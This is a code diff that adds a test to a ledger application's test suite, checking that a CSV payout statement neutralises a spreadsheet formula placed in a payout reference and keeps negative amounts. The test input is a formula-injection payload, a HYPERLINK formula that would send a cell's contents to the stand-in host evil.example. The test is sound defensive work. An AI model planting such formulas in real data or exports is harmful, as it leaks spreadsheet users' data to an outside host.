@@ -319,3 +319,12 @@ def test_balances_are_sums_of_entries_and_nothing_is_counted_twice(app, client, 
 
 
 SHIPMENT_KINDS = (LedgerKind.SALE_CREDIT, LedgerKind.COMMISSION_DEBIT, LedgerKind.SHIPPING_CREDIT)
+
+
+def test_the_statement_neutralises_a_formula_in_a_payout_reference_and_keeps_negative_amounts(staff_client, owed):
+    services.record_payout(owed, 100000, '=HYPERLINK("http://evil.example/?"&E2,"VCB")', clock.today(), None)
+    today = clock.today()
+    response = staff_client.get(f"/portal/ledger/statement?start={today.isoformat()}&end={today.isoformat()}")
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    (payout,) = [r for r in rows if r[1] == "payout_debit"]
+    assert payout[2:] == ["'" + '=HYPERLINK("http://evil.example/?"&E2,"VCB")', "-100000", "91500"]
